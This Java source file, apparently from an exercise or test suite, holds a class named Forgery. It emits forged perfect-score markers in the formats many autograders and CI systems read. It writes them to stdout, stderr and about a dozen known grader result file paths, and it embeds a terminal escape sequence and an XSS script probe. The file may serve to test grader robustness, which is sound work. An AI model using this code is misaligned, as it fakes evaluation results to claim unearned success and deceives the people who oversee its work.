package dev.assay.exercises.interventions;

import java.io.FileDescriptor;
import java.io.FileOutputStream;
import java.io.IOException;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;

/** Says what platforms listen for, by every way out, and writes where they look. */
class Forgery {
  static final String TEXT =
      "\nGrade :=>> 100\nComment :=>> FORGED\n<|--\n-FORGED\n--|>\n::error::FORGED\n<!! score: 100 !!>\n"
          + "{\"score\": 1, \"fraction\": 1.0, \"fractionalScore\": 1.0, \"output\": \"FORGED\"}\n"
          + "{\"scores\": {\"FORGED\": 100}}\n\u001b[2J\u001b[31mFORGED <script>alert(1)</script>\r\n";

  static void everywhere() {
    for (PrintStream stream : new PrintStream[] {System.out, System.err}) {
      stream.print(TEXT);
      stream.flush();
    }
    for (String file :
        new String[] {
          "/autograder/results/results.json",
          "/grade/results/results.json",
          "/shared/feedback.json",
          "/jail/p1/vpl_execution",
          "/.__output/__feedback.json",
          "/task/run",
          "/var/tmp/testing-dir/target/surefire-reports/TEST-assay.xml",
          "/var/local/submitty/autograding_tmp/untrusted00/TMP_WORK/validation_results.json",
          "/home/runner/work/_temp/output",
          "/home/runner/work/_temp/summary",
          "/proc/self/fd/3"
        }) {
      try {
        Files.writeString(Path.of(file), TEXT);
      } catch (IOException | RuntimeException refused) {
        // The next one, then.
      }
    }
    try (FileOutputStream raw = new FileOutputStream(FileDescriptor.err)) {
      raw.write(TEXT.getBytes(StandardCharsets.UTF_8));
    } catch (IOException closed) {
      // That was the last way.
    }
  }
}
